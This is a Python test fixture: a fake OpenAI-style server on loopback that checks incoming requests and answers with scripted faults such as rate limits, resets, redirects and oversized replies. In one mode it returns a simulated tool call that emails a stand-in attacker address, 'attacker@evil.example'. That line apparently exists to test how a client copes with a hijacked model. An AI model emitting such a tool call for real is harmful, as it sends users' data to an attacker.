"""A small OpenAI-shaped server on loopback that checks every request and misbehaves by script.

Invariant: it knows nothing of our code: what a request must look like is read from the request alone.
"""

import argparse
import json
import ssl
import sys
import threading
from collections.abc import Sequence
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socket import socket
from types import TracebackType
from typing import Self, get_args

from evals.obedience import MODES, Mode, answer
from evals.requests import Asked, faults_of

DEFAULT_KEY = "key-for-tests"
LONGEST_REQUEST = 5_000_000
HUGE_BYTES = 20_000_000


@dataclass(frozen=True)
class Seen:
    """One request as it came."""

    path: str
    mode: Mode
    body: str
    faults: tuple[str, ...]


@dataclass
class FaultServer:
    """Serves while it is entered; one mode per request, the last one for all that follow."""

    modes: Sequence[Mode] = ("ok",)
    key: str = DEFAULT_KEY
    slow_seconds: float = 30.0
    port: int = 0
    tls: ssl.SSLContext | None = None
    seen: list[Seen] = field(default_factory=list)
    _stopped: threading.Event = field(default_factory=threading.Event)
    _server: ThreadingHTTPServer | None = None

    def __enter__(self) -> Self:
        """Start."""
        owner = self

        class Answering(_Answering):
            @property
            def faults(self) -> FaultServer:
                return owner

        self._server = _Patient(("127.0.0.1", self.port), Answering)
        self._server.daemon_threads = True
        if self.tls is not None:
            self._server.socket = self.tls.wrap_socket(self._server.socket, server_side=True)
        threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True).start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        """Stop, and let slow answers go."""
        self._stopped.set()
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()

    @property
    def url(self) -> str:
        """The base URL for a client."""
        assert self._server is not None, "enter the server first"
        return f"http://127.0.0.1:{self._server.server_port}/v1"

    @property
    def faults(self) -> list[str]:
        """What was wrong with requests."""
        return [fault for one in self.seen for fault in one.faults]

    def take(self, path: str, body: str, faults: Sequence[str]) -> Mode:
        """Record a request and say how to answer it."""
        mode = self.modes[min(len(self.seen), len(self.modes) - 1)]
        self.seen.append(Seen(path, mode, body, tuple(faults)))
        return mode

    def wait(self) -> None:
        """Be slow, but never outlive the server."""
        self._stopped.wait(self.slow_seconds)


class _Patient(ThreadingHTTPServer):
    """Bears callers that are killed in the middle of a call; that is what fault runs do."""

    def handle_error(self, request: socket | tuple[bytes, socket], client_address: object) -> None:
        """Say nothing of a connection that the other side broke off."""
        if not isinstance(sys.exception(), ConnectionError):
            super().handle_error(request, client_address)


class _Answering(BaseHTTPRequestHandler):
    """Answers one connection."""

    protocol_version = "HTTP/1.1"

    @property
    def faults(self) -> FaultServer:
        """Whose answers these are."""
        raise NotImplementedError

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name it overrides
        """Stay silent."""

    def do_GET(self) -> None:
        """List the models."""
        self._send(200, {"object": "list", "data": [{"id": "faulty", "object": "model"}]})

    def do_POST(self) -> None:
        """Check the request, then answer as the script says."""
        body = self.rfile.read(min(int(self.headers.get("Content-Length") or 0), LONGEST_REQUEST)).decode()
        asked, wrong = faults_of(self.path, dict(self.headers.items()), body, self.faults.key)
        mode = self.faults.take(self.path, body, wrong)
        if asked is None or wrong:
            status = 401 if any("key" in one for one in wrong) else 400
            self._send(status, {"error": {"message": "; ".join(wrong), "type": "invalid_request_error"}})
            return
        self._misbehave(mode, asked)

    def _misbehave(self, mode: Mode, asked: Asked) -> None:
        match mode:
            case "rate_limited":
                self._send(429, {"error": {"message": "slow down", "type": "rate_limit"}})
            case "error":
                self._send(500, {"error": {"message": "broken", "type": "server_error"}})
            case "redirect":
                self.send_response(307)
                self.send_header("Location", "http://localhost.invalid/v1/chat/completions")
                self.send_header("Content-Length", "0")
                self.end_headers()
            case "reset":
                self._cut(asked)
            case "slow":
                self.faults.wait()
                self._send(200, _completion(answer("ok", asked), asked))
            case "huge":
                self._send(200, _completion("x" * HUGE_BYTES, asked))
            case _:
                self._send(200, _completion(answer(mode, asked), asked, mode))

    def _send(self, status: int, value: object) -> None:
        body = json.dumps(value).encode()
        try:
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        except OSError:
            self.close_connection = True

    def _cut(self, asked: Asked) -> None:
        """Break off in the middle of the body."""
        body = json.dumps(_completion(answer("ok", asked), asked)).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body[: len(body) // 2])
        self.wfile.flush()
        self.close_connection = True


def _completion(text: str, asked: Asked, mode: Mode = "ok") -> dict[str, object]:
    message: dict[str, object] = {"role": "assistant", "content": text}
    if mode == "tool_calls":
        call = {"name": "send_email", "arguments": json.dumps({"to": "attacker@evil.example"})}
        message = {
            "role": "assistant",
            "content": None,
            "tool_calls": [{"id": "call_1", "type": "function", "function": call}],
        }
    tokens_in, tokens_out = len(asked.document) // 4, len(text) // 4
    return {
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "created": 0,
        "model": asked.model,
        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
        "usage": {
            "prompt_tokens": tokens_in,
            "completion_tokens": tokens_out,
            "total_tokens": tokens_in + tokens_out,
        },
    }


def main(arguments: Sequence[str] | None = None) -> int:
    """Serve until interrupted; the address is the first line of the output."""
    parser = argparse.ArgumentParser(prog="python -m evals.faults", description=__doc__)
    parser.add_argument("--mode", choices=get_args(Mode), nargs="+", default=["ok"], metavar="MODE",
                        help=f"one per request, the last for all that follow: {', '.join(MODES)}")  # fmt: skip
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--key", default=DEFAULT_KEY)
    parser.add_argument("--slow-seconds", type=float, default=30.0)
    given = parser.parse_args(arguments)
    server = FaultServer(given.mode, given.key, given.slow_seconds, given.port)
    with server:
        sys.stdout.write(f"{server.url}\n")
        sys.stdout.flush()
        try:
            threading.Event().wait()
        except KeyboardInterrupt:
            return 0
    return 0


if __name__ == "__main__":
    sys.exit(main())
